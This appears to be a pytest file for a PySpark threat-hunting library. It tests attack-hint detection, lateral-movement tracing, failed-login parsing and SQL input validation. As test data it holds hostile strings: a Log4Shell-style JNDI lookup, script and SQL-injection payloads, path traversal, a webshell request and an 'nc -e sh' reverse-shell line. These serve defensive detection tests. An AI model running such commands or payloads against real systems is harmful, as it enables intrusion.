"""Cases whose expected values were derived by hand from the described behaviour, not from this code."""
import time

import pytest
from pyspark.sql import functions as F

from huntspark.operators import discovery as D, joins as J, lateral as L, normalize as N, predicates as Q, rules as R, setops as U
from huntspark.session import shared_dir
from huntspark.sources import readers as S
from huntspark.streaming import streams as T

SEC = 1_000_000


def test_exec_rows_with_other_commands_are_other_events(spark):
    df = spark.createDataFrame([(1, "t", "h", "7", "id"), (2, "t", "h", "7", "ls"), (3, "t", "h", "7", "id")], "id int, timestamp string, _victim_host string, pid string, cmd string")
    assert sorted(r.id for r in U.merge_bundles([df], "host_exec", ["id"]).collect()) == [1, 2]


def test_connections_to_other_addresses_are_other_events(spark):
    df = spark.createDataFrame([(1, "t", "h", "10.0.0.1", "22"), (2, "t", "h", "10.0.0.2", "22"), (3, "t", "h", "10.0.0.2", "23"), (4, "t", "h", "10.0.0.2", "23")], "id int, timestamp string, host string, connect_address string, connect_port string")
    assert sorted(r.id for r in U.merge_bundles([df], "host_connect", ["id"]).collect()) == [1, 2, 3]


def test_files_and_persistence_rows_keep_their_own_columns(spark):
    files = spark.createDataFrame([(1, ["/a"]), (2, ["/b"])], "id int, file_paths array<string>")
    assert U.merge_bundles([files], "host_file_op", ["id"]).count() == 2
    other = spark.createDataFrame([(1, "s1"), (2, "s2")], "id int, log_source string")
    assert U.merge_bundles([other], "host_persistence", ["id"]).count() == 2
    same = spark.createDataFrame([(1, "e1", "x"), (2, "e2", "x")], "id int, evidence_id string, v string")
    assert U.merge_bundles([same.drop("id")], "something", ["v"]).count() == 1


@pytest.mark.parametrize("url,hot", [("/s?q=<SCRIPT>", True), ("/x?${jndi:ldap://a}", True), ("/a?u=union select", True), ("/a?u=union+select", False), ("/etc/passwd", False), ("/../x", True), ("/plain", False)])
def test_attack_hints(spark, url, hot):
    df = spark.createDataFrame([(url, "web_access_log")], "url string, asset_type string")
    assert df.where(Q.attack_like(df)).count() == int(hot)


@pytest.mark.parametrize("hint,zones,hosts,investigated,want", [
    ("web_zone", ["dmz"], [], [], "full"), ("web_hosts", [], ["h"], [], "full"), ("internal", [], ["h"], [], "full"), ("jump_hosts", ["internal"], ["h"], [], "full"), ("internal", ["partial"], [], [], "partial"),
    ("web_zone", ["dmz_to_internal"], [], [], "partial"), ("dmz_to_internal", ["dmz"], [], [], "partial"), ("web_zone", ["full"], [], [], "none"), ("web_zone", ["internal"], ["h"], [], "partial"),
    ("target_hosts", ["internal"], ["a"], ["a", "b"], "partial"), ("target_hosts", ["internal"], ["c"], ["a"], "none"), ("target_hosts", ["internal"], [], ["a"], "partial"), ("web_hosts", ["web_zone"], ["a"], ["a"], "full"),
    ("web_hosts", ["web_zone"], ["a"], ["b"], "partial"), ("internal_ssh", ["internal"], ["a"], ["b"], "partial"), ("any", [], ["h"], ["x"], "full"), ("any", [], [], [], "none"), ("full", ["full"], [], [], "full"), ("full", ["internal"], [], [], "none")])
def test_coverage(spark, hint, zones, hosts, investigated, want):
    df = spark.createDataFrame([(hint, zones, hosts)], "hint string, zones array<string>, hosts array<string>")
    assert df.select(D.coverage_hint(F.col("hint"), F.col("zones"), F.col("hosts"), investigated)).first()[0] == want


def test_apps_count_as_coverage(spark):
    df = spark.createDataFrame([("any", [], [], ["portal"])], "hint string, zones array<string>, hosts array<string>, apps array<string>")
    assert df.select(D.coverage_hint(F.col("hint"), F.col("zones"), F.col("hosts"), [], F.col("apps"))).first()[0] == "full"


def test_source_address_names(spark):
    keys = spark.createDataFrame([("remoteHost",), ("remote_ip",), ("c-ip",), ("clientip",)], "key string")
    assert {r.key for r in D.suggest_aliases(keys, ["src_ip"]).collect()} == {"remoteHost", "remote_ip", "c-ip"}


@pytest.mark.parametrize("profile,want", [
    (("global", None, None, "共享出口", True, "failed", None), "shared_or_nat_exit_risk"), (("global", None, None, "云防护", True, "failed", None), "shared_or_nat_exit_risk"),
    (("global", None, None, "x", False, "success", None), "ip_nat_fields_missing"), (("global", None, None, "x", False, "failed", None), "ip_profile_not_verified"),
    (("global", None, None, "x", False, "success", False), "no_shared_exit_indicator"), (("global", False, None, "x", False, "success", None), "no_shared_exit_indicator"), (("private", None, None, "x", True, None, None), "shared_or_nat_exit_risk")])
def test_block_guard(spark, profile, want):
    p = spark.createDataFrame([("1.1.1.1", *profile)], "ip string, scope string, mobile boolean, proxy boolean, description string, verified boolean, online_status string, tor boolean")
    a = spark.createDataFrame([("1.1.1.1", "block_ip")], "src_ip string, recommended_action string")
    assert R.ip_block_guard(a, p).first().block_reason == want


def test_second_hop_reads_web_rows_and_all_words(spark):
    c = spark.createDataFrame([("10.0.0.1", "nc -e sh 10.0.0.9"), ("10.0.0.1", "lateral 10.0.0.8")], "host string, command string")
    w = spark.createDataFrame([("10.0.0.1", "GET /webshell?to=10.0.0.7"), ("10.9.9.9", "ssh 10.0.0.6")], "host string, text string")
    none = spark.createDataFrame([], "src string, dst string, result string")
    got = L.second_hop_targets(c, none, spark.createDataFrame([("10.0.0.1",)], "host string"), w)
    assert sorted(r.target for r in got.collect()) == ["10.0.0.7", "10.0.0.9"]


def test_only_real_failures_count(spark):
    rows = [(1, "ssh_invalid_user", ""), (2, "ssh_auth_attempts_exceeded", ""), (3, "auth_failure", ""), (4, "ssh_login_failed", ""), (5, "x", "Failed publickey for u from 1.1.1.1"), (6, "x", "Failed password for u from 1.1.1.1"), (7, "x", "Invalid user u from 1.1.1.1")]
    df = spark.createDataFrame([(i, i * SEC, "h", t, m) for i, t, m in rows], "id int, us bigint, host string, event_type string, message string")
    assert sorted(r.id for r in N.failed_logins(df).collect()) == [3, 4, 6, 7]


def test_movement_has_anchor_end_untimed_logins_and_firewall_rows(spark):
    lg = spark.createDataFrame([("a", "b", 5 * SEC, 1), ("a", "c", 50 * SEC, 2), ("a", "d", None, 3), ("a", "e", 500 * SEC, 4), ("a", "d", 60 * SEC, 5)], "src string, dst string, us bigint, evidence_id int").withColumn("result", F.lit("accepted"))
    fw = spark.createDataFrame([("a", "c", 51 * SEC, 70)], "src string, dst string, us bigint, evidence_id int")
    got = {r.dst: (r.evidence_id, r.firewall_ref, r.confidence) for r in L.lateral_hops(spark.createDataFrame([("a",)], "host string"), lg, fw, anchor_us=10 * SEC, end_us=100 * SEC).collect()}
    assert got == {"c": (2, 70, 0.88), "d": (5, None, 0.82)}
    only = L.lateral_hops(spark.createDataFrame([("a",)], "host string"), lg.where("evidence_id = 3"), fw, anchor_us=10 * SEC).collect()
    assert [(r.dst, r.evidence_id) for r in only] == [("d", 3)]


def test_nearest_rows_with_text_ids(spark):
    left = spark.createDataFrame([("k", 100, "ev-a"), ("k", 900, "ev-b")], "k string, us bigint, lid string")
    right = spark.createDataFrame([("k", 90, "ev-x"), ("k", 120, "ev-y")], "k string, us bigint, rid string")
    got = {r.lid: r.near_id for r in J.nearest_asof(left, right, ["k"], "us", "lid", "rid", 100).collect()}
    assert got == {"ev-a": "ev-x", "ev-b": None}


def test_snapshots_skip_empty_and_fold_equal_keys(spark):
    rows = [("a", 1), ("a", 1), (None, 1), ("", 5)]
    p = spark.createDataFrame(rows, "key string, v int")
    assert J.snapshot_diff(p, p, ["key"], ["v"]).count() == 0
    assert [(r.key, r.action) for r in J.snapshot_diff(p, p.limit(0), ["key"], ["v"]).collect()] == [("a", "deleted")]
    assert [(r.key, r.action) for r in J.snapshot_diff(p, p, ["key"], ["v"], full=True).collect()] == [("a", "observed")]


def feed(spark, batches, schema):
    path = shared_dir(spark, "feed")
    for b in batches:
        spark.createDataFrame(b, schema).coalesce(1).write.mode("append").parquet(path)
        time.sleep(1.05)
    return T.follow_files(spark, path, spark.createDataFrame([], schema).schema, "parquet", files_per_batch=1).drop("_path", "_modified")


def test_rows_without_id_are_never_repeats(spark):
    st = feed(spark, [[(90_000, None, "x"), (90_000, None, "x"), (90_000, "k", "x"), (90_000, "k", "x")]], "s int, key string, v string").withColumn("ts", F.timestamp_seconds("s"))
    got = sorted(str(r.key) for r in T.drain(T.stream_dedupe(st, "ts", ["key"]), "d").collect())
    assert got == ["None", "None", "k"]


def test_snapshots_of_hosts_do_not_mix(spark):
    st = feed(spark, [[("A", 1, "p", 1), ("A", 1, "q", 1)], [("B", 2, "r", 1)], [("A", 3, "p", 2), ("B", 3, None, None)]], "host string, snap int, key string, v int")
    got = {(r.host, r.snap, r.key, r.action) for r in T.drain(st, "s", T.snapshot_diffs(["key"], ["v"], "snap", ["host"])).collect()}
    assert got == {("A", 1, "p", "observed"), ("A", 1, "q", "observed"), ("B", 2, "r", "observed"), ("A", 3, "p", "modified"), ("A", 3, "q", "deleted"), ("B", 3, "r", "deleted")}


def test_sql_texts_are_read_as_texts():
    assert S.bind_params("a = ':x' AND b = :x", {"x": "v"}) == "a = ':x' AND b = 'v'"
    assert S.assert_select_only("SELECT '--x', ';' AS a -- note; more") == "SELECT '--x', ';' AS a"
    for bad in ("\\' OR 1=1 -- ", "a\0b"):
        with pytest.raises(ValueError):
            S.bind_params("a = :x", {"x": bad})
    for bad in ("SELECT '\\'' OR 1=1", "SELECT 'open", "SELECT 1; SELECT 2"):
        with pytest.raises(ValueError):
            S.assert_select_only(bad)
